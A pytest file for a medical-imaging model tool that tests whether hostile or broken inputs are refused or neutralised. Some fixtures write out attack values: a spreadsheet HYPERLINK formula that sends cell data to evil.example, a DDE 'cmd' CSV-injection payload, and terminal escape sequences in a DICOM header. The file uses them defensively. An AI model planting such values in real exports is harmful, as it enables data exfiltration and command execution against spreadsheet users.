"""Hostile but ordinary inputs: each gets a message that names the file or the key, never a
traceback, and nothing medadapt writes lets a spreadsheet or a figure misread it.

Issue 31's items, one test (or more) each; the fuzz-style walk of every command over a
table of such inputs is test_no_hostile_input_ends_as_an_internal_error.
"""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from medadapt.engine.cli import cli
from medadapt.engine.contracts.errors import ExitCode
from medadapt.engine.contracts.host import get_plugin_host
from medadapt.engine.output.atomic import atomic_file, atomic_folder, remove_abandoned
from medadapt.engine.output.text import csv_cell, csv_row

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.fixture
def model(small_model) -> Path:
    return small_model


@pytest.fixture(autouse=True, scope="module")
def _plugin_commands():
    get_plugin_host().add_commands(cli)  # as the console script does (phantom, inspect)


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def refused_plainly(result, *named: str) -> None:
    """Exit 2 (invalid input), a message naming each of ``named``, no traceback."""
    assert result.exit_code == ExitCode.INVALID_INPUT, result.output
    assert "Traceback" not in result.output
    assert "internal error" not in result.output
    for name in named:
        assert name in result.output, (name, result.output)


# --- CSV cells that a spreadsheet would run ---------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(start):
    assert csv_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


def test_numbers_and_plain_text_stay_as_they_are_in_csv():
    assert csv_row([-0.25, "+3", "1e-5", "GE MEDICAL SYSTEMS", None, 7]) == [
        "-0.25",
        "+3",
        "1e-5",
        "GE MEDICAL SYSTEMS",
        "",
        "7",
    ]


def test_predictions_csv_neutralises_a_formula_in_a_dicom_attribute(tmp_path):
    import numpy as np

    from medadapt.engine.contracts.components import SampleRecord, Split
    from medadapt.engine.validation.evaluate import Predictions
    from medadapt.engine.validation.job import _write_predictions

    record = SampleRecord("patient-1", "series-1", "", {"manufacturer": FORMULA}, "benign")
    made = Predictions(np.array([0.25]), np.array([0]), ["patient-1"], [record])
    profile = type("P", (), {"report": type("R", (), {"subgroups": ["manufacturer"]})})()
    _write_predictions(tmp_path / "p.csv", {"model": {Split.TEST: made}}, profile)
    [row] = list(csv.DictReader((tmp_path / "p.csv").open()))
    assert row["manufacturer"] == "'" + FORMULA
    assert row["score"] == "0.25"


# --- text drawn into figures -----------------------------------------------------------------


def test_a_dollar_in_a_site_name_is_drawn_as_it_is_not_read_as_mathtext(tmp_path):
    from medadapt.engine.output.text import pyplot

    plt = pyplot()
    figure, axis = plt.subplots()
    axis.set_title(r"Clinic $\alpha^{$ North")
    figure.savefig(tmp_path / "figure.png")  # mathtext fails on this text
    plt.close(figure)
    assert (tmp_path / "figure.png").stat().st_size > 0


# --- exports and bundles ---------------------------------------------------------------------


def test_export_refuses_a_symbolic_link_as_out_by_name(tmp_path, model):
    bundle = tmp_path / "bundle"
    assert invoke("model", "export", str(model), "--format", "monai-bundle", "--out",
                  str(bundle)).exit_code == 0  # fmt: skip
    link = tmp_path / "current"
    link.symlink_to(bundle)
    result = invoke("model", "export", str(model), "--format", "monai-bundle", "--out", str(link),
                    "--overwrite")  # fmt: skip
    refused_plainly(result, str(link), "symbolic link")
    assert (bundle / "configs" / "metadata.json").is_file()  # left as it was


@pytest.mark.parametrize("inside", ["weights.safetensors", "card.json", "."])
def test_export_never_writes_over_the_model_it_is_made_from(tmp_path, model, inside):
    before = (model / "weights.safetensors").read_bytes()
    out = model / inside
    result = invoke("model", "export", str(model), "--format", "torchscript", "--out", str(out),
                    "--overwrite")  # fmt: skip
    refused_plainly(result, "the export would replace the model it is made from")
    assert (model / "weights.safetensors").read_bytes() == before


@pytest.mark.parametrize(
    "content", [b"hello world\n", b"e" * 100, b"PK\x03\x04not a zip", b"\x80\x02}q\x00."]
)
def test_a_bundle_whose_weights_are_not_weights_is_refused_by_file(tmp_path, content):
    from medadapt.engine.contracts.errors import InvalidInputError
    from medadapt.engine.models.weights import load_weights_file

    path = tmp_path / "model.pt"
    path.write_bytes(content)
    with pytest.raises(InvalidInputError, match=r"model\.pt: (not a PyTorch weights file|refused)"):
        load_weights_file(path)


def _bundle(tmp_path: Path, model: Path) -> Path:
    bundle = tmp_path / "bundle"
    result = invoke("model", "export", str(model), "--format", "monai-bundle", "--out",
                    str(bundle))  # fmt: skip
    assert result.exit_code == 0, result.output
    return bundle


@pytest.mark.parametrize("kind", ["text", "link to text", "dangling link", "link to a folder"])
def test_a_bundle_with_broken_weights_is_refused_by_file_on_import(
    tmp_path, model, small_model_profile, kind
):
    bundle = _bundle(tmp_path, model)
    weights = bundle / "models" / "model.pt"
    weights.unlink()
    if kind == "text":
        weights.write_text("these are not weights\n")
    elif kind == "link to text":
        (tmp_path / "notes.txt").write_text("these are not weights\n")
        weights.symlink_to(tmp_path / "notes.txt")
    elif kind == "dangling link":
        weights.symlink_to(tmp_path / "gone.pt")
    else:
        weights.symlink_to(tmp_path)
    result = invoke("model", "import", str(bundle), "-p", str(small_model_profile), "--out",
                    str(tmp_path / "imported"))  # fmt: skip
    named = "gone.pt" if kind == "dangling link" else "model.pt"
    refused_plainly(result, named)
    assert not (tmp_path / "imported").exists()


def test_a_bundle_whose_weights_lie_outside_it_is_imported_with_a_note(
    tmp_path, model, small_model_profile
):
    bundle = _bundle(tmp_path, model)
    weights = bundle / "models" / "model.pt"
    store = tmp_path / "store"
    store.mkdir()
    weights.rename(store / "blob")
    weights.symlink_to(store / "blob")
    result = invoke("model", "import", str(bundle), "-p", str(small_model_profile), "--out",
                    str(tmp_path / "imported"))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "symbolic link that leaves the bundle" in result.output


# --- temporaries, read-only folders, full disks ----------------------------------------------


def test_temporaries_of_a_killed_writer_are_removed_by_the_next_writer(tmp_path):
    target = tmp_path / "model.ts"
    left = [tmp_path / ".model.ts.abc123.tmp", tmp_path / ".bundle.xyz.tmp"]
    left[0].write_bytes(b"half")
    left[1].mkdir()
    (left[1] / "models").mkdir()
    with atomic_file(target) as temporary:
        assert not left[0].exists()
        temporary.write_bytes(b"whole")
    with atomic_folder(tmp_path / "bundle") as folder:
        assert not left[1].exists()
        (folder / "x").write_text("x")
    assert target.read_bytes() == b"whole"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_a_temporary_that_a_living_writer_holds_is_left_alone(tmp_path):
    target = tmp_path / "model.ts"
    with atomic_file(target) as temporary:
        temporary.write_bytes(b"being written")
        assert remove_abandoned(target) == []
        assert temporary.exists()


def test_a_temporary_left_by_a_killed_export_is_cleaned_by_the_next_export(tmp_path, model):
    """A real kill -9 in the middle of writing, then the same command again."""
    script = (
        "import sys, time\n"
        "from pathlib import Path\n"
        "from medadapt.engine.output.atomic import atomic_file\n"
        "with atomic_file(Path(sys.argv[1])) as t:\n"
        "    t.write_bytes(b'half'); print('writing', flush=True); time.sleep(60)\n"
    )
    out = tmp_path / "m.ts"
    writer = subprocess.Popen([sys.executable, "-c", script, str(out)], stdout=subprocess.PIPE)
    assert writer.stdout.readline().strip() == b"writing"
    writer.send_signal(signal.SIGKILL)
    writer.wait()
    assert [p.name.startswith(".m.ts.") for p in tmp_path.glob(".m.ts.*.tmp")] == [True]
    result = invoke("model", "export", str(model), "--format", "torchscript", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert list(tmp_path.glob(".m.ts.*.tmp")) == []


def test_a_read_only_out_is_named_by_out_not_by_its_temporary(tmp_path, model):
    folder = tmp_path / "readonly"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        if os.access(folder, os.W_OK):
            pytest.skip("this user writes anywhere (root): a read-only folder cannot be made")
        for fmt, name in (("torchscript", "m.ts"), ("monai-bundle", "bundle")):
            result = invoke("model", "export", str(model), "--format", fmt, "--out",
                            str(folder / name))  # fmt: skip
            refused_plainly(result, f"{folder / name}: Permission denied")
            assert ".tmp" not in result.output
    finally:
        folder.chmod(0o755)


def test_a_temporary_that_cannot_be_made_is_named_by_the_target(tmp_path, monkeypatch):
    import errno
    import tempfile

    def refuse(*, dir: str, prefix: str, suffix: str) -> None:
        name = os.path.join(dir, f"{prefix}k3j9{suffix}")
        raise PermissionError(errno.EACCES, "Permission denied", name)

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    monkeypatch.setattr(tempfile, "mkdtemp", refuse)
    for make in (atomic_file, atomic_folder):
        with pytest.raises(PermissionError) as raised, make(tmp_path / "out"):
            pass
        assert raised.value.filename == str(tmp_path / "out")


def _limited(limit_bytes: int) -> None:
    """In the child: files may grow to ``limit_bytes`` only, as on a disk that is full."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG instead
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))


@pytest.mark.parametrize("fmt", ["torchscript", "monai-bundle"])
def test_an_export_onto_a_full_disk_is_said_plainly_and_leaves_nothing(tmp_path, model, fmt):
    out = tmp_path / ("m.ts" if fmt == "torchscript" else "bundle")
    done = subprocess.run(
        [sys.executable, "-m", "medadapt.engine", "model", "export", str(model), "--format", fmt,
         "--out", str(out)],
        capture_output=True, text=True, preexec_fn=lambda: _limited(4096), timeout=300,
        check=False,
    )  # fmt: skip
    assert done.returncode == ExitCode.INVALID_INPUT, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    assert f"{out}" in done.stderr
    assert "File too large" in done.stderr
    assert not out.exists()
    assert list(tmp_path.glob(f".{out.name}.*.tmp")) == []


# --- settings out of range -------------------------------------------------------------------


def test_a_phantom_of_a_billion_patients_is_refused_by_its_option(tmp_path):
    result = invoke("phantom", str(tmp_path / "site"), "--patients", "1000000000")
    assert result.exit_code == ExitCode.INVALID_INPUT
    assert "--patients 1000000000: Input should be less than or equal to 100000" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "site").exists()


def test_a_seed_no_random_generator_takes_is_refused_by_profile_check(write_profile):
    path = write_profile(seed=2**70)
    result = invoke("profile", "check", str(path))
    assert result.exit_code == ExitCode.INVALID_INPUT
    assert "seed: Input should be less than 2147483648" in result.output


# --- series too small to use -----------------------------------------------------------------


def test_a_series_of_1_by_1_pixels_is_listed_as_unusable_with_the_reason(ct):
    ct.series("tiny", slices=12, size=1)
    ct.series("fine", slices=6, patient_id="MRN-0077-PHI", seed=3)
    result = invoke("inspect", str(ct.root), "--json")
    assert result.exit_code == 0, result.output
    found = json.loads(result.stdout)
    assert len(found["series"]) == 1
    reasons = {r["reason"] for r in found["rejections"]}
    assert any("its images are 1 x 1 pixels: too small to be a CT image" in r for r in reasons)
    assert sum("1 x 1 pixels" in r["reason"] for r in found["rejections"]) == 12


@pytest.mark.parametrize(
    ("mode", "size", "slices", "refused"),
    [
        ("2d", [48, 48], 6, True),  # 16 x 16 pixels of 0.7 x 0.8 mm: 11 x 13 mm
        ("2d", [8, 8], 6, False),
        ("2.5d", [8, 8], 1, True),  # one slice of 2.5 mm; the patch reaches 3 x 2 mm
        ("3d", [16, 8, 8], 6, True),  # 6 slices of 2.5 mm = 15 mm; the patch 32 mm deep
        ("3d", [8, 8, 8], 6, False),  # 15 of 16 mm: a little air at the ends
        ("2d", [16, 16], 6, False),  # 11.2 x 12.8 mm of 16 x 16: more than half
    ],
)
def test_a_series_too_small_for_the_profiles_patch_is_not_used_and_says_why(
    ct, site_key, write_profile, mode, size, slices, refused
):
    from medadapt.engine.data.samples import open_site_data
    from medadapt.engine.profile import load_profile

    ct.series("small", slices=slices)
    path = write_profile(
        data={"source": "dicom-ct", "params": {"root": str(ct.root)}},
        preprocessing={
            "window": {"level": 40, "width": 400},
            "spacing_mm": [2.0, 1.0, 1.0],
            "patch_mode": mode,
            "patch_size": size,
        },
    )
    registry = get_plugin_host().registry()
    data = open_site_data(load_profile(path, registry), registry)
    assert (data.records == []) == refused
    reasons = [r.reason for r in data.rejections]
    if refused:
        [reason] = reasons
        assert reason.startswith("the image is 16 x 16 pixels (11.2 x 12.8 mm)")
        assert reason.endswith("(at least half of it): too small to use")
        assert "MRN" not in reason
    else:
        assert reasons == []


@pytest.fixture
def site_key(monkeypatch):
    monkeypatch.setenv("MEDADAPT_PSEUDONYM_KEY", "a-site-secret-for-this-test-only")


# --- identity in paths -----------------------------------------------------------------------


@pytest.fixture
def export(tmp_path) -> Path:
    """An export laid out by patient, as many are: folders named by PatientName and ID."""
    root = tmp_path / "export"
    series = root / "DOE^JANE 0042-PHI" / "CT CHEST"
    series.mkdir(parents=True)
    (series / "IM0001.dcm").write_bytes(b"")
    (root / "labels.csv").write_text("patient_id,label\n")
    return root


def test_paths_inside_a_data_folder_reach_persistent_text_by_pseudonym_only(export):
    from medadapt.engine.data.pseudonym import PathScrubber, Pseudonymizer

    scrub = PathScrubber(Pseudonymizer("a-site-secret-for-this-test-only"))
    scrub.add(export, keep=[export / "labels.csv"])
    file = export / "DOE^JANE 0042-PHI" / "CT CHEST" / "IM0001.dcm"
    text = (
        f"{file}: not DICOM (see {file})\n"
        f'  File "{file}", line 3\n'
        f"{export / 'DOE^JANE 0042-PHI' / 'GONE.dcm'}: the file cannot be read any more\n"
        f"{export / 'labels.csv'}: row 2: the label is empty\n"
        f"no usable CT series in {export}"
    )
    shown = scrub(text)
    for identity in ("DOE", "0042", "CHEST"):
        assert identity not in shown
    same = scrub(str(file))
    assert shown.splitlines()[0] == f"{same}: not DICOM (see {same})"
    assert re.fullmatch(r"<data>/path-[0-9a-f]{16}\.dcm", same)
    assert f"{export / 'labels.csv'}: row 2" in shown  # the profile's label file, kept
    assert shown.endswith("no usable CT series in <data>")
    assert scrub(str(export) + "-other/x.dcm") == str(export) + "-other/x.dcm"


def test_json_and_job_logs_written_after_a_site_is_opened_hold_no_data_path(export, tmp_path):
    import logging

    from medadapt.engine.batch import _job_log
    from medadapt.engine.data.pseudonym import data_paths
    from medadapt.engine.models.model import write_json_atomic

    data_paths.add(export)
    file = export / "DOE^JANE 0042-PHI" / "CT CHEST" / "IM0001.dcm"
    write_json_atomic(tmp_path / "out.json", {"reason": f"{file}: bad", f"{file}": [str(file)]})
    with _job_log(tmp_path / "job.log"):
        logging.getLogger("medadapt.test").warning("%s: not DICOM", file)
        try:
            raise OSError(2, "No such file", str(file))
        except OSError:
            logging.getLogger("medadapt.test").exception("failed")
    for name in ("out.json", "job.log"):
        content = (tmp_path / name).read_text()
        assert "DOE" not in content, content
        assert "CHEST" not in content, content
        assert "<data>/path-" in content


# --- files cut short or overwritten by something else ----------------------------------------


def test_a_jobs_file_that_is_not_text_is_refused_by_name(tmp_path):
    jobs = tmp_path / "jobs.yaml"
    jobs.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe")
    refused_plainly(invoke("batch", str(jobs), "--out", str(tmp_path / "b")), str(jobs))


def test_a_model_whose_card_is_not_json_is_refused_by_name(tmp_path, model):
    (model / "card.json").write_bytes(b"\xff\xfe\x00garbage")
    result = invoke("model", "export", str(model), "--format", "torchscript", "--out",
                    str(tmp_path / "m.ts"))  # fmt: skip
    refused_plainly(result, str(model / "card.json"), "not a model card")


def test_a_phantom_folder_whose_settings_file_is_damaged_is_refused_by_name(tmp_path):
    out = tmp_path / "site"
    out.mkdir()
    (out / "phantom.json").write_text('{"generator": 2, "spec": {"pat')  # cut short
    result = invoke("phantom", str(out), "--patients", "1")
    refused_plainly(result, str(out / "phantom.json"))


def test_a_demo_folder_whose_marker_is_damaged_is_refused_by_name(tmp_path):
    from medadapt.engine.contracts.errors import InvalidInputError
    from medadapt.plugins.phantom.demo import _claim

    (tmp_path / "medadapt-demo.json").write_bytes(b"\x00\xff")
    with pytest.raises(InvalidInputError, match=r"medadapt-demo\.json: not a demo's marker"):
        _claim(tmp_path, fast=True)


@pytest.mark.parametrize(
    ("preprocessing", "said"),
    [
        ({"patch_size": [100000, 100000]}, "patch_size[0]: Input should be less than or equal"),
        ({"patch_mode": "3d", "patch_size": [512, 512, 512]}, "makes patches of 134,217,728"),
    ],
)
def test_a_patch_no_memory_holds_is_refused_by_profile_check(write_profile, preprocessing, said):
    base = {"window": {"level": 40, "width": 400}, "spacing_mm": [1.0, 0.7, 0.7],
            "patch_mode": "2d"}  # fmt: skip
    path = write_profile(preprocessing={**base, **preprocessing})
    result = invoke("profile", "check", str(path))
    assert result.exit_code == ExitCode.INVALID_INPUT
    assert said in result.output


def test_control_characters_in_a_header_never_reach_the_terminal_or_the_records(ct, site_key):
    from medadapt.plugins.dicom_ct import DicomCT

    ct.series("a", slices=3, Manufacturer="\x1b[2J\x1b]0;owned\x07EVIL\r\nFAKE LOG LINE")
    for args in (["inspect", str(ct.root)], ["inspect", str(ct.root), "--json"]):
        result = invoke(*args)
        assert result.exit_code == 0, result.output
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.output)  # newlines are ours
    [record] = DicomCT.from_params({"root": str(ct.root)}).scan().records
    assert record.attributes["manufacturer"] == r"\x1b[2J\x1b]0;owned\x07EVIL\x0d\x0aFAKE LOG LINE"


def test_labels_outside_the_tasks_classes_are_refused_by_every_job_not_left_out(
    ct, site_key, write_profile, tmp_path
):
    from medadapt.engine.contracts.errors import InvalidInputError
    from medadapt.engine.data.samples import open_site_data
    from medadapt.engine.profile import load_profile

    ct.series("a", slices=6, patient_id="MRN-0042-PHI")
    ct.series("b", slices=6, patient_id="MRN-0077-PHI", seed=5)
    labels = tmp_path / "labels.csv"
    labels.write_text(
        "patient_id,label,slice,row,column\nMRN-0042-PHI,benign,1,2,3\nMRN-0077-PHI,Malignant,1,2,3\n"
    )
    path = write_profile(
        data={"source": "dicom-ct", "params": {"root": str(ct.root)}, "label_file": str(labels)},
        preprocessing={"window": {"level": 40, "width": 400}, "spacing_mm": [1.0, 0.7, 0.7],
                       "patch_mode": "2d", "patch_size": [8, 8]},
    )  # fmt: skip
    registry = get_plugin_host().registry()
    with pytest.raises(InvalidInputError) as refused:
        open_site_data(load_profile(path, registry), registry)
    message = str(refused.value)
    assert f"({labels}) have labels 'Malignant' that are not in task.classes" in message
    assert "'Malignant' is 'malignant' in another case" in message
